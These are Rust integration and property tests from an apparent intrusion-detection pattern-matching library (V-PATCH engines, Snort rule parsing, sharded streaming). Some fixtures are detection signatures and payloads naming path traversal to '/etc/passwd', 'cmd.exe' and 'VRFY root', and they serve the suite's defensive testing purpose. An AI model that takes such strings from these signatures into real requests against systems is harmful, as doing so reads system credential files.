    let fired: Vec<u32> = expected.iter().map(|m| m.rule.0).collect();
    assert_eq!(fired, vec![0, 1, 3]);

    // One-shot, through the paper's engine.
    let scanner = RuleScanner::new(std::sync::Arc::from(build_auto(set.anchors())), &set);
    assert_eq!(scanner.scan_rules(&payload), expected);
    // Anchor hits (the Matcher view) keep flowing alongside.
    assert!(!scanner.scan(&payload).is_empty());

    // Streamed, with every rule's contents split across pushes.
    let engine: SharedMatcher = std::sync::Arc::from(build_auto(set.anchors()));
    let mut streamed = RuleStreamScanner::new(engine, &set);
    let (mut anchors, mut rules) = (Vec::new(), Vec::new());
    for chunk in payload.chunks(7) {
        streamed.push(chunk, &mut anchors, &mut rules);
    }
    rules.sort_unstable();
    assert_eq!(rules, expected);

    // Sharded: one flow split mid-constraint-window, one clean flow.
    let engine: SharedMatcher = std::sync::Arc::from(build_auto(set.anchors()));
    let mut sharded = ScannerBuilder::new()
        .rules(engine, &set)
        .workers(2)
        .build_barrier()
        .expect("valid build");
    let result = sharded.scan_batch(vec![
        Packet::new(1, payload[..20].to_vec()),
        Packet::new(2, b"POST /upload HTTP/1.1 UPLOAD".to_vec()),
        Packet::new(1, payload[20..].to_vec()),
    ]);
    let flow1: Vec<u32> = result
        .rule_matches
        .iter()
        .filter(|m| m.flow == 1)
        .map(|m| m.rule.0)
        .collect();
    assert_eq!(
        flow1,
        vec![0, 1, 3],
        "flow 1 confirms across the packet seam"
    );
    let flow2: Vec<u32> = result
        .rule_matches
        .iter()
        .filter(|m| m.flow == 2)
        .map(|m| m.rule.0)
        .collect();
    assert_eq!(
        flow2,
        vec![2],
        "flow 2 confirms the POST rule (nocase upload)"
    );
}

#[test]
fn pattern_view_and_rule_view_agree_on_single_content_rules() {
    // For rules with one content and no constraints, the rule layer must
    // degenerate to plain pattern matching: same hits, same offsets.
    let set = parse_ruleset(RULES, ParseOptions::default()).expect("rules parse");
    let patterns = parse_rules(
        RULES,
        ParseOptions {
            longest_content_only: false,
            ..ParseOptions::default()
        },
    )
    .expect("rules parse");
    assert_eq!(set.len(), patterns.len());
    let payload = b"x /etc/passwd y cmd.exe z VRFY root";
    let pattern_hits = NaiveMatcher::new(&patterns).find_all(payload);
    let scanner = RuleScanner::new(std::sync::Arc::from(build_auto(set.anchors())), &set);
    let rule_hits = scanner.scan_rules(payload);
    assert_eq!(rule_hits.len(), pattern_hits.len());
    for m in &rule_hits {
        let p = &patterns.patterns()[m.rule.index()];
        assert!(
            pattern_hits
                .iter()
                .any(|h| h.pattern.index() == m.rule.index() && h.start + p.len() == m.end),
            "rule {} must end where its single content matches",
            m.rule
        );
    }
}

#[test]
fn contiguous_hex_contents_parse_and_match() {
    // Snort-legal contiguous hex: |DEADBEEF| == |de ad be ef|.
    let rule = r#"alert tcp any any -> any 445 (msg:"blob"; content:"|DEADBEEF|"; sid:1;)"#;
    let rules = parse_rules(rule, ParseOptions::default()).expect("contiguous hex parses");
    assert_eq!(rules.len(), 1);
    let engine = build_auto(&rules);
    let mut payload = b"....".to_vec();
    payload.extend_from_slice(&[0xde, 0xad, 0xbe, 0xef]);
    assert_eq!(engine.count(&payload), 1);
}
