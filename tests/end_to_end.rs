//! Workspace-level integration tests: the full pipeline
//! (ruleset → traffic → every engine → identical alert streams), exercised
//! through the umbrella crate's public API exactly as an application would.

use vpatch_suite::prelude::*;

/// Builds one instance of every engine in the workspace over `rules`.
fn all_engines(rules: &PatternSet) -> Vec<Box<dyn Matcher + Send + Sync>> {
    use vpatch_suite::simd::{Avx2Backend, Avx512Backend, ScalarBackend};
    let mut engines: Vec<Box<dyn Matcher + Send + Sync>> = vec![
        Box::new(NaiveMatcher::new(rules)),
        Box::new(NfaMatcher::build(rules)),
        Box::new(DfaMatcher::build(rules)),
        Box::new(WuManber::build(rules)),
        Box::new(Dfc::build(rules)),
        Box::new(VectorDfc::<ScalarBackend, 8>::build(rules)),
        Box::new(SPatch::build(rules)),
        Box::new(VPatch::<ScalarBackend, 8>::build(rules)),
        Box::new(VPatch::<ScalarBackend, 16>::build(rules)),
        build_auto(rules),
    ];
    if <Avx2Backend as VectorBackend<8>>::is_available() {
        engines.push(Box::new(VectorDfc::<Avx2Backend, 8>::build(rules)));
        engines.push(Box::new(VPatch::<Avx2Backend, 8>::build(rules)));
    }
    if <Avx512Backend as VectorBackend<16>>::is_available() {
        engines.push(Box::new(VectorDfc::<Avx512Backend, 16>::build(rules)));
        engines.push(Box::new(VPatch::<Avx512Backend, 16>::build(rules)));
    }
    engines
}

#[test]
fn every_engine_reports_identical_alerts_on_realistic_traffic() {
    let ruleset = SyntheticRuleset::generate(vpatch_suite::patterns::synthetic::RulesetSpec::tiny(
        600, 2024,
    ));
    let rules = ruleset.http();
    let trace = TraceGenerator::generate(
        &TraceSpec::new(TraceKind::IscxDay2, 512 * 1024),
        Some(&rules),
    );
    let reference = NaiveMatcher::new(&rules).find_all(&trace);
    assert!(
        !reference.is_empty(),
        "the realistic trace should contain injected rule occurrences"
    );
    for engine in all_engines(&rules) {
        assert_eq!(
            engine.find_all(&trace),
            reference,
            "engine {} diverged from the reference",
            engine.name()
        );
        assert_eq!(
            engine.count(&trace),
            reference.len() as u64,
            "{}",
            engine.name()
        );
    }
}

#[test]
fn every_engine_agrees_on_random_and_adversarial_inputs() {
    let rules = PatternSet::from_literals(&[
        "a",
        "ab",
        "abc",
        "abcd",
        "aaaa",
        "GET ",
        "\x00\x00\x00\x00",
        "attack",
        "attach",
        "attribute",
        "end-of-buffer",
    ]);
    let mut inputs: Vec<Vec<u8>> = vec![
        Vec::new(),
        b"a".to_vec(),
        b"abcdabcdabcd".to_vec(),
        b"aaaaaaaaaaaaaaaaaaaaaaaa".to_vec(),
        vec![0u8; 1000],
        (0..=255u8).cycle().take(4096).collect(),
        b"the pattern sits at the very end-of-buffer".to_vec(),
    ];
    // A match that straddles every power-of-two boundary the vector loop uses.
    for offset in [6usize, 7, 8, 15, 16, 17, 31, 32, 33] {
        let mut v = vec![b'.'; 64];
        v[offset..offset + 6].copy_from_slice(b"attack");
        inputs.push(v);
    }
    let reference_engine = NaiveMatcher::new(&rules);
    let engines = all_engines(&rules);
    for input in &inputs {
        let expected = reference_engine.find_all(input);
        for engine in &engines {
            assert_eq!(
                engine.find_all(input),
                expected,
                "engine {} diverged on input of length {}",
                engine.name(),
                input.len()
            );
        }
    }
}

#[test]
fn chunked_streaming_scan_equals_whole_buffer_scan() {
    let rules =
        SyntheticRuleset::generate(vpatch_suite::patterns::synthetic::RulesetSpec::tiny(200, 7))
            .http();
    let trace = TraceGenerator::generate(
        &TraceSpec::new(TraceKind::IscxDay6, 256 * 1024),
        Some(&rules),
    );
    let engine = build_auto(&rules);
    let expected = engine.find_all(&trace);

    let max_len = rules.patterns().iter().map(|p| p.len()).max().unwrap();
    let stream = ChunkedStream::new(trace, 16 * 1024, max_len - 1);
    let mut collected = Vec::new();
    for chunk in stream.iter() {
        let local = engine.find_all(&chunk.bytes);
        collected.extend(vpatch_suite::traffic::chunk::globalize_matches(
            &chunk, &rules, &local,
        ));
    }
    vpatch_suite::patterns::matcher::normalize_matches(&mut collected);
    assert_eq!(collected, expected);
}

#[test]
fn engines_are_shareable_across_threads() {
    let rules = PatternSet::from_literals(&["needle", "GET /", "xyz"]);
    let engine = build_auto(&rules);
    let traces: Vec<Vec<u8>> = (0..4)
        .map(|i| {
            TraceGenerator::generate(
                &TraceSpec::new(TraceKind::IscxDay2, 64 * 1024).with_seed(i),
                Some(&rules),
            )
        })
        .collect();
    let expected: Vec<u64> = traces.iter().map(|t| engine.count(t)).collect();

    let counted = std::sync::Mutex::new(vec![0u64; traces.len()]);
    std::thread::scope(|scope| {
        for (i, trace) in traces.iter().enumerate() {
            let engine = engine.as_ref();
            let counted = &counted;
            scope.spawn(move || {
                counted.lock().unwrap()[i] = engine.count(trace);
            });
        }
    });
    assert_eq!(*counted.lock().unwrap(), expected);
}

#[test]
fn match_density_generator_drives_the_expected_verification_load() {
    // Cross-crate sanity for the Figure 5c workload: a higher requested match
    // fraction yields more matches and more candidates for the same engine.
    let rules =
        SyntheticRuleset::generate(vpatch_suite::patterns::synthetic::RulesetSpec::tiny(300, 3))
            .http();
    let engine = SPatch::build(&rules);
    let generator = MatchDensityGenerator::new(128 * 1024, 99);
    let low_input = generator.generate(&rules, 0.05);
    let high_input = generator.generate(&rules, 0.6);
    assert!(
        MatchDensityGenerator::measure_fraction(&rules, &high_input)
            > MatchDensityGenerator::measure_fraction(&rules, &low_input) + 0.3
    );
    let low = engine.scan_with_stats(&low_input);
    let high = engine.scan_with_stats(&high_input);
    // Short patterns also fire accidentally in the filler, so the absolute
    // match counts do not scale linearly with the requested fraction — but
    // a denser input must produce strictly more matches and more candidates.
    assert!(high.matches > low.matches);
    assert!(high.candidates > low.candidates);
}
