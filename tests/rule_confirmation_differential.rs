//! Differential property tests for multi-content rule confirmation.
//!
//! Random rulesets — 1–3 contents per rule, independent
//! `nocase`/`offset`/`depth`/`distance`/`within` modifiers — are evaluated
//! over random payloads (with rule contents spliced in so real
//! multi-content matches actually occur) through the anchor-gated
//! confirmation pipeline on **every engine in the workspace**, and compared
//! against the naive O(n·m) evaluator in `mpm_patterns::rule`, which walks
//! every occurrence combination with a deliberately different algorithm
//! (memoized recursion + binary search vs. the engine's min-max-end DP).
//!
//! Both one-shot (`RuleScanner::scan_rules`) and streamed
//! (`RuleStreamScanner` under random chunkings) paths must agree with the
//! oracle exactly: same confirmed rules, same minimal satisfiable prefix
//! lengths. `MPM_FORCE_BACKEND` pins the confirmation backend the same way
//! it pins the engines, which is how the CI matrix drives this suite
//! through the scalar, AVX2 and AVX-512 `eq_window` paths in turn.

use std::sync::Arc;
use vpatch_suite::patterns::rule::naive_rule_find_all;
use vpatch_suite::prelude::*;
use vpatch_suite::simd::ScalarBackend;

use proptest::prelude::*;

/// Content bytes over a collision-happy alphabet: repeated letters in both
/// cases so contents overlap each other and the payload, plus arbitrary
/// bytes and a non-ASCII byte that must never case-fold.
fn bytes_strategy(max_len: usize) -> impl Strategy<Value = Vec<u8>> {
    proptest::collection::vec(
        prop_oneof![
            Just(b'a'),
            Just(b'A'),
            Just(b'b'),
            Just(b'c'),
            Just(b'x'),
            Just(0xC1u8),
            any::<u8>()
        ],
        2..max_len,
    )
}

/// One content with random modifiers. Kept within the shim's arity-4 tuple
/// limit by nesting: `((bytes, nocase), (offset, depth), (distance,
/// within))`. Absolute and relative families are generated independently —
/// the semantics allow mixing even though the Snort parser rejects it, and
/// the oracle implements the same semantics.
#[allow(clippy::type_complexity)]
fn content_strategy() -> impl Strategy<Value = RuleContent> {
    (
        (bytes_strategy(6), any::<bool>()),
        (
            prop_oneof![Just(None), (0u32..40).prop_map(Some)],
            prop_oneof![Just(None), (2u32..48).prop_map(Some)],
        ),
        (
            prop_oneof![Just(None), (0u32..36).prop_map(|v| Some(v as i32 - 6))],
            prop_oneof![Just(None), (2u32..40).prop_map(Some)],
        ),
    )
        .prop_map(|((bytes, nocase), (offset, depth), (distance, within))| {
            let mut c = RuleContent::new(bytes).with_nocase(nocase);
            if let Some(o) = offset {
                c = c.with_offset(o);
            }
            if let Some(d) = depth {
                c = c.with_depth(d);
            }
            if let Some(x) = distance {
                c = c.with_distance(x);
            }
            if let Some(w) = within {
                c = c.with_within(w);
            }
            c
        })
}

fn ruleset_strategy() -> impl Strategy<Value = RuleSet> {
    proptest::collection::vec(proptest::collection::vec(content_strategy(), 1..4), 1..5).prop_map(
        |rules| {
            RuleSet::new(
                rules
                    .into_iter()
                    .map(|contents| Rule::new(ProtocolGroup::Any, contents))
                    .collect(),
            )
        },
    )
}

/// Splice directives: `(rule, content, position)` triples, reduced modulo
/// the actual set/payload sizes, that overwrite payload bytes with content
/// bytes so constrained multi-content matches really happen.
fn splice_strategy() -> impl Strategy<Value = Vec<(usize, usize, usize)>> {
    proptest::collection::vec((any::<usize>(), any::<usize>(), any::<usize>()), 0..8)
}

fn chunk_plan_strategy() -> impl Strategy<Value = Vec<usize>> {
    proptest::collection::vec(1usize..24, 1..12)
}

/// Applies splice directives to the payload.
fn splice(set: &RuleSet, payload: &mut [u8], plan: &[(usize, usize, usize)]) {
    if payload.is_empty() {
        return;
    }
    for &(r, c, pos) in plan {
        let rule = set.get(RuleId((r % set.len()) as u32));
        let content = &rule.contents()[c % rule.contents().len()];
        let bytes = content.bytes();
        if bytes.len() > payload.len() {
            continue;
        }
        let at = pos % (payload.len() - bytes.len() + 1);
        payload[at..at + bytes.len()].copy_from_slice(bytes);
    }
}

/// Every engine family, compiled for the rule set's anchor patterns.
/// `build_auto` resolves per `MPM_FORCE_BACKEND`, so the CI matrix runs
/// each forced backend's V-PATCH (and confirmation path) in turn.
fn anchor_engines(set: &RuleSet) -> Vec<SharedMatcher> {
    let anchors = set.anchors();
    vec![
        Arc::new(NaiveMatcher::new(anchors)),
        Arc::from(NfaMatcher::build(anchors)),
        Arc::from(DfaMatcher::build(anchors)),
        Arc::from(WuManber::build(anchors)),
        Arc::from(Dfc::build(anchors)),
        Arc::from(SPatch::build(anchors)),
        Arc::from(VPatch::<ScalarBackend, 8>::build(anchors)),
        Arc::from(build_auto(anchors)),
    ]
}

/// Streams `payload` through a [`RuleStreamScanner`] following `plan` and
/// returns the confirmed rules in rule-id order.
fn streamed_rules(
    engine: SharedMatcher,
    set: &RuleSet,
    payload: &[u8],
    plan: &[usize],
) -> Vec<RuleMatch> {
    let mut scanner = RuleStreamScanner::new(engine, set);
    let (mut anchors, mut rules) = (Vec::new(), Vec::new());
    let mut pos = 0;
    let mut step = 0;
    while pos < payload.len() {
        let take = plan[step % plan.len()].min(payload.len() - pos);
        scanner.push(&payload[pos..pos + take], &mut anchors, &mut rules);
        pos += take;
        step += 1;
    }
    rules.sort_unstable();
    rules
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn every_engine_confirms_exactly_the_naive_rule_matches_one_shot(
        set in ruleset_strategy(),
        payload in bytes_strategy(140),
        plan in splice_strategy(),
    ) {
        let mut payload = payload;
        splice(&set, &mut payload, &plan);
        let expected = naive_rule_find_all(&set, &payload);
        for engine in anchor_engines(&set) {
            let name = engine.name();
            let scanner = RuleScanner::new(engine, &set);
            prop_assert_eq!(
                &scanner.scan_rules(&payload), &expected,
                "{} diverged from the naive rule evaluator", name
            );
        }
    }

    #[test]
    fn streamed_confirmation_equals_one_shot_under_random_chunkings(
        set in ruleset_strategy(),
        payload in bytes_strategy(120),
        plan in splice_strategy(),
        chunks in chunk_plan_strategy(),
    ) {
        let mut payload = payload;
        splice(&set, &mut payload, &plan);
        let expected = naive_rule_find_all(&set, &payload);
        for engine in anchor_engines(&set) {
            let name = engine.name();
            let got = streamed_rules(engine, &set, &payload, &chunks);
            prop_assert_eq!(
                &got, &expected,
                "{} streamed confirmation diverged under chunking {:?}",
                name, &chunks
            );
        }
    }

    #[test]
    fn sharded_rule_mode_equals_the_naive_evaluator_per_flow(
        set in ruleset_strategy(),
        payload in bytes_strategy(100),
        plan in splice_strategy(),
        cut in any::<usize>(),
    ) {
        let mut payload = payload;
        splice(&set, &mut payload, &plan);
        let expected = naive_rule_find_all(&set, &payload);
        let engine: SharedMatcher = Arc::from(build_auto(set.anchors()));
        let mut scanner = ScannerBuilder::new()
            .rules(engine, &set)
            .workers(3)
            .build_barrier().expect("valid build");
        // Two flows carrying the same payload, each cut once at a random
        // seam; both must report the same confirmed rules.
        let cut = cut % (payload.len() + 1);
        let result = scanner.scan_batch(vec![
            Packet::new(11, payload[..cut].to_vec()),
            Packet::new(22, payload.to_vec()),
            Packet::new(11, payload[cut..].to_vec()),
        ]);
        for flow in [11u64, 22] {
            let got: Vec<RuleMatch> = result
                .rule_matches
                .iter()
                .filter(|m| m.flow == flow)
                .map(|m| RuleMatch::new(m.rule, m.end))
                .collect();
            prop_assert_eq!(
                &got, &expected,
                "flow {} diverged (cut at {})", flow, cut
            );
        }
    }
}

/// Pinned regression: the worked example from the issue — a rule whose
/// secondary content is constrained relative to the anchor — one-shot,
/// streamed byte-by-byte, and parsed from real Snort syntax.
#[test]
fn get_etc_passwd_with_window_is_confirmed_everywhere() {
    let text = r#"alert tcp any any -> any 80 (msg:"traversal"; content:"GET "; content:"passwd"; distance:0; within:20; sid:9001;)"#;
    let set = vpatch_suite::patterns::snort::parse_ruleset(
        text,
        vpatch_suite::patterns::snort::ParseOptions::default(),
    )
    .expect("rule parses");
    let hit = b"GET /etc/passwd HTTP/1.1";
    let miss = b"GET /some/very/long/path/passwd";
    let expected = naive_rule_find_all(&set, hit);
    assert_eq!(expected.len(), 1);
    for engine in anchor_engines(&set) {
        let name = engine.name();
        let scanner = RuleScanner::new(engine.clone(), &set);
        assert_eq!(scanner.scan_rules(hit), expected, "{name} one-shot");
        assert!(
            scanner.scan_rules(miss).is_empty(),
            "{name} window violated"
        );
        let plan = [1usize];
        assert_eq!(
            streamed_rules(engine, &set, hit, &plan),
            expected,
            "{name} streamed"
        );
    }
}
