//! Differential property tests for port-grouped scanning.
//!
//! The central claim of the `GroupedRuleSet` layer is **observational
//! equivalence**: for any ruleset and any flow, grouped scanning (partition
//! by header, scan only the selected groups, re-check exact applicability,
//! dedup across groups) reports *exactly* the rules a monolithic scan of
//! the whole ruleset, filtered post-hoc to the rules whose headers apply to
//! the flow, would report — same rules, same minimal satisfiable prefix
//! lengths. These tests generate random headers (protocols, single ports,
//! lists, ranges, negations, `any`, both directions) crossed with random
//! multi-content rules and random flows, and check that claim on the
//! one-shot, streamed-chunked, and sharded paths.
//!
//! The grouped engines come from `build_grouped_engines`, which compiles
//! per-group engines through `build_auto_with_arena` — so the CI
//! `MPM_FORCE_BACKEND` matrix drives this suite through the scalar, AVX2
//! and AVX-512 verification paths in turn, shared arena included.

use vpatch_suite::patterns::rule::naive_rule_find_all;
use vpatch_suite::prelude::*;

use proptest::prelude::*;

/// Ports drawn from a tiny pool so random flows actually hit the specs.
const PORTS: [u16; 6] = [25, 53, 80, 443, 8080, 40000];

fn port_strategy() -> impl Strategy<Value = u16> {
    (0usize..PORTS.len()).prop_map(|i| PORTS[i])
}

fn proto_strategy() -> impl Strategy<Value = Proto> {
    prop_oneof![Just(Proto::Tcp), Just(Proto::Udp), Just(Proto::Ip)]
}

/// A random port spec exercising every syntactic family the parser
/// supports: `any`, a single port, a two-port list, a range, and a negated
/// single port.
fn port_spec_strategy() -> impl Strategy<Value = PortSpec> {
    let vars = || PortVars::default();
    prop_oneof![
        Just(PortSpec::any()),
        port_strategy().prop_map(PortSpec::single),
        (port_strategy(), port_strategy()).prop_map(move |(a, b)| PortSpec::parse(
            &format!("[{a},{b}]"),
            &vars()
        )
        .unwrap()),
        (port_strategy(), port_strategy()).prop_map(move |(a, b)| {
            let (lo, hi) = (a.min(b), a.max(b));
            PortSpec::parse(&format!("{lo}:{hi}"), &vars()).unwrap()
        }),
        port_strategy().prop_map(move |p| PortSpec::parse(&format!("!{p}"), &vars()).unwrap()),
    ]
}

fn header_strategy() -> impl Strategy<Value = RuleHeader> {
    (
        proto_strategy(),
        port_spec_strategy(),
        port_spec_strategy(),
        any::<bool>(),
    )
        .prop_map(|(proto, src, dst, bidir)| {
            let mut header = RuleHeader::new(proto, src, dst);
            if bidir {
                header.direction = Direction::Bidirectional;
            }
            header
        })
}

/// Content bytes over a collision-happy alphabet (shared idiom with the
/// workspace's other differential suites).
fn bytes_strategy(max_len: usize) -> impl Strategy<Value = Vec<u8>> {
    proptest::collection::vec(
        prop_oneof![
            Just(b'a'),
            Just(b'A'),
            Just(b'b'),
            Just(b'c'),
            Just(b'x'),
            any::<u8>()
        ],
        2..max_len,
    )
}

fn content_strategy() -> impl Strategy<Value = RuleContent> {
    (bytes_strategy(6), any::<bool>(), any::<bool>()).prop_map(|(bytes, nocase, rel)| {
        let c = RuleContent::new(bytes).with_nocase(nocase);
        if rel {
            c.with_distance(0)
        } else {
            c
        }
    })
}

/// `(header, rule)` pairs ready for [`GroupedRuleSet::new`].
fn grouped_rules_strategy() -> impl Strategy<Value = Vec<(RuleHeader, Rule)>> {
    proptest::collection::vec(
        (
            header_strategy(),
            proptest::collection::vec(content_strategy(), 1..3),
        ),
        1..8,
    )
    .prop_map(|rules| {
        rules
            .into_iter()
            .map(|(header, contents)| (header, Rule::new(ProtocolGroup::Any, contents)))
            .collect()
    })
}

fn flow_strategy() -> impl Strategy<Value = FlowTuple> {
    (proto_strategy(), port_strategy(), port_strategy()).prop_map(|(proto, src, dst)| {
        // Flows are concrete transports; Proto::Ip stands in for "a
        // protocol no rule names" here (ICMP-like).
        let proto = if proto == Proto::Ip {
            Proto::Icmp
        } else {
            proto
        };
        FlowTuple::new(proto, src, dst)
    })
}

/// Splice directives (rule, content, position) — overwrite payload bytes
/// with content bytes so multi-content rules actually confirm.
fn splice_strategy() -> impl Strategy<Value = Vec<(usize, usize, usize)>> {
    proptest::collection::vec((any::<usize>(), any::<usize>(), any::<usize>()), 0..8)
}

fn chunk_plan_strategy() -> impl Strategy<Value = Vec<usize>> {
    proptest::collection::vec(1usize..24, 1..10)
}

fn splice(set: &RuleSet, payload: &mut [u8], plan: &[(usize, usize, usize)]) {
    if payload.is_empty() || set.is_empty() {
        return;
    }
    for &(r, c, pos) in plan {
        let rule = set.get(RuleId((r % set.len()) as u32));
        let content = &rule.contents()[c % rule.contents().len()];
        let bytes = content.bytes();
        if bytes.len() > payload.len() {
            continue;
        }
        let at = pos % (payload.len() - bytes.len() + 1);
        payload[at..at + bytes.len()].copy_from_slice(bytes);
    }
}

/// The oracle: monolithic naive rule evaluation over the whole ruleset,
/// filtered post-hoc to the rules whose headers apply to the flow.
fn monolithic_filtered(
    grouped: &GroupedRuleSet,
    flow: Option<FlowTuple>,
    payload: &[u8],
) -> Vec<RuleMatch> {
    naive_rule_find_all(grouped.monolithic(), payload)
        .into_iter()
        .filter(|m| match flow {
            Some(tuple) => grouped.applies_to(m.rule, tuple),
            None => true,
        })
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn grouped_one_shot_equals_monolithic_filtered_post_hoc(
        rules in grouped_rules_strategy(),
        payload in bytes_strategy(120),
        plan in splice_strategy(),
        flow in flow_strategy(),
    ) {
        let grouped = GroupedRuleSet::new(rules);
        let mut payload = payload;
        splice(grouped.monolithic(), &mut payload, &plan);
        let engines = vpatch_suite::build_grouped_engines(grouped);
        for tuple in [Some(flow), None] {
            let expected = monolithic_filtered(engines.grouped(), tuple, &payload);
            let got = engines.scan_flow(tuple, &payload);
            prop_assert_eq!(
                &got, &expected,
                "grouped one-shot diverged for flow {:?}", tuple
            );
        }
    }

    #[test]
    fn grouped_streaming_equals_monolithic_under_random_chunkings(
        rules in grouped_rules_strategy(),
        payload in bytes_strategy(100),
        plan in splice_strategy(),
        flow in flow_strategy(),
        chunks in chunk_plan_strategy(),
    ) {
        let grouped = GroupedRuleSet::new(rules);
        let mut payload = payload;
        splice(grouped.monolithic(), &mut payload, &plan);
        let engines = vpatch_suite::build_grouped_engines(grouped);
        let expected = monolithic_filtered(engines.grouped(), Some(flow), &payload);
        let mut scanner = GroupedFlowScanner::new(engines.clone(), Some(flow));
        let mut got = Vec::new();
        let (mut pos, mut step) = (0, 0);
        while pos < payload.len() {
            let take = chunks[step % chunks.len()].min(payload.len() - pos);
            scanner.push(&payload[pos..pos + take], &mut got);
            pos += take;
            step += 1;
        }
        got.sort_unstable();
        prop_assert_eq!(
            &got, &expected,
            "grouped streaming diverged under chunking {:?}", &chunks
        );
    }

    #[test]
    fn sharded_grouped_mode_equals_monolithic_per_flow(
        rules in grouped_rules_strategy(),
        payload in bytes_strategy(90),
        plan in splice_strategy(),
        flow_a in flow_strategy(),
        cut in any::<usize>(),
    ) {
        let grouped = GroupedRuleSet::new(rules);
        let mut payload = payload;
        splice(grouped.monolithic(), &mut payload, &plan);
        let engines = vpatch_suite::build_grouped_engines(grouped);
        let expected_a = monolithic_filtered(engines.grouped(), Some(flow_a), &payload);
        let expected_none = monolithic_filtered(engines.grouped(), None, &payload);
        let mut scanner = ScannerBuilder::new()
            .groups(engines.clone())
            .workers(3)
            .build_barrier().expect("valid build");
        // Flow 11 carries a tuple and is cut at a random seam; flow 22 has
        // no tuple (scanned against every group, unfiltered).
        let cut = cut % (payload.len() + 1);
        let result = scanner.scan_batch(vec![
            Packet::new_with_tuple(11, payload[..cut].to_vec(), flow_a),
            Packet::new(22, payload.to_vec()),
            Packet::new(11, payload[cut..].to_vec()),
        ]);
        prop_assert!(result.matches.is_empty(), "grouped mode reports rules only");
        for (flow, expected) in [(11u64, &expected_a), (22, &expected_none)] {
            let got: Vec<RuleMatch> = result
                .rule_matches
                .iter()
                .filter(|m| m.flow == flow)
                .map(|m| RuleMatch::new(m.rule, m.end))
                .collect();
            prop_assert_eq!(
                &got, expected,
                "sharded grouped flow {} diverged (cut at {})", flow, cut
            );
        }
    }
}

/// Pinned end-to-end regression: a small, readable ruleset through the real
/// Snort text path, checking group selection, negation, bidirectionality
/// and the catch-all on concrete flows.
#[test]
fn snort_text_grouped_pipeline_matches_the_oracle() {
    let text = r#"
alert tcp any any -> any $HTTP_PORTS (msg:"web"; content:"GET /admin"; sid:1;)
alert tcp any any -> any !80 (msg:"notweb"; content:"tunnelbytes"; sid:2;)
alert udp any 53 <> any any (msg:"dns-either"; content:"querydata"; sid:3;)
alert ip any any -> any any (msg:"any"; content:"evil-bytes"; sid:4;)
"#;
    let rules = vpatch_suite::patterns::snort::parse_grouped(text, Default::default()).unwrap();
    let engines = vpatch_suite::build_grouped_engines(GroupedRuleSet::new(rules));
    let payload = b"GET /admin tunnelbytes querydata evil-bytes";
    let flows = [
        FlowTuple::new(Proto::Tcp, 40000, 80),   // web + any
        FlowTuple::new(Proto::Tcp, 40000, 9999), // notweb + any
        FlowTuple::new(Proto::Udp, 4000, 53),    // dns (reverse dir) + any
        FlowTuple::new(Proto::Udp, 53, 4000),    // dns (forward) + any
        FlowTuple::new(Proto::Icmp, 1, 2),       // any only
    ];
    for flow in flows {
        let expected: Vec<RuleMatch> = naive_rule_find_all(engines.grouped().monolithic(), payload)
            .into_iter()
            .filter(|m| engines.grouped().applies_to(m.rule, flow))
            .collect();
        let got = engines.scan_flow(Some(flow), payload);
        assert_eq!(got, expected, "flow {flow:?}");
    }
    // Sanity: the selection actually differs per flow (this is the perf
    // point of grouping, not just correctness).
    let web = engines.scan_flow(Some(flows[0]), payload);
    let icmp = engines.scan_flow(Some(flows[4]), payload);
    assert_eq!(web.len(), 2);
    assert_eq!(icmp.len(), 1);
    // And every grouped engine's accounting stays honest under Arc sharing.
    let fp = engines.memory_footprint();
    assert!(fp.total() > 0);
    assert!(fp.verify_bytes >= engines.arena_bytes());
}
