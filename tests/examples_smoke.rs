//! Smoke test: every example under `examples/` must build and run to
//! completion, so the doc-facing entry points can never silently rot.
//!
//! Each example is executed through `cargo run --example` with
//! `VPATCH_EXAMPLE_FAST=1`, which the examples honour by scaling their
//! workloads down to sizes that finish in seconds even in the debug profile.

use std::path::Path;
use std::process::Command;

/// Discovers the example names from the `examples/` directory so a new
/// example is covered automatically.
fn example_names() -> Vec<String> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples");
    let mut names: Vec<String> = std::fs::read_dir(&dir)
        .expect("examples/ directory exists")
        .filter_map(|entry| {
            let path = entry.ok()?.path();
            if path.extension()? == "rs" {
                Some(path.file_stem()?.to_string_lossy().into_owned())
            } else {
                None
            }
        })
        .collect();
    names.sort();
    assert!(
        names.len() >= 5,
        "expected the five shipped examples, found {names:?}"
    );
    names
}

#[test]
fn every_example_runs_to_completion() {
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".to_string());
    for name in example_names() {
        let output = Command::new(&cargo)
            .args(["run", "--quiet", "--example", &name])
            .env("VPATCH_EXAMPLE_FAST", "1")
            .current_dir(env!("CARGO_MANIFEST_DIR"))
            .output()
            .unwrap_or_else(|error| panic!("failed to spawn cargo for example {name}: {error}"));
        assert!(
            output.status.success(),
            "example `{name}` failed with {}:\n--- stdout ---\n{}\n--- stderr ---\n{}",
            output.status,
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr),
        );
    }
}
