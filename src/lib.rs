//! Umbrella crate for the V-PATCH reproduction suite.
//!
//! This crate re-exports the workspace's public API under one roof so that
//! applications can depend on a single crate, and hosts the runnable
//! examples (`examples/`) and the cross-crate integration tests (`tests/`).
//!
//! ```
//! use vpatch_suite::prelude::*;
//!
//! let rules = PatternSet::from_literals(&["/etc/passwd", "cmd.exe"]);
//! let engine = build_auto(&rules);
//! assert_eq!(engine.count(b"GET /etc/passwd HTTP/1.0"), 1);
//! ```
//!
//! See the individual crates for the full documentation:
//! [`mpm_vpatch`] (the paper's S-PATCH / V-PATCH engines), [`mpm_dfc`] and
//! [`mpm_aho_corasick`] (baselines), [`mpm_patterns`] / [`mpm_traffic`]
//! (workload substrates), [`mpm_simd`] (vector backends), [`mpm_stream`]
//! (streaming + sharded multi-core scanning), [`mpm_verify`] (filters +
//! compact hash tables), [`mpm_graph`] (the operator scan graph every
//! engine's scan path is assembled from) and [`mpm_cachesim`] (locality
//! analysis).

#![warn(missing_docs)]

use std::sync::Arc;

pub use mpm_aho_corasick as aho_corasick;
pub use mpm_cachesim as cachesim;
pub use mpm_dfc as dfc;
pub use mpm_graph as graph;
pub use mpm_patterns as patterns;
pub use mpm_simd as simd;
pub use mpm_stream as stream;
pub use mpm_traffic as traffic;
pub use mpm_verify as verify;
pub use mpm_vpatch as vpatch;
pub use mpm_wu_manber as wu_manber;

/// Compiles a port-grouped ruleset into one auto-selected engine per group
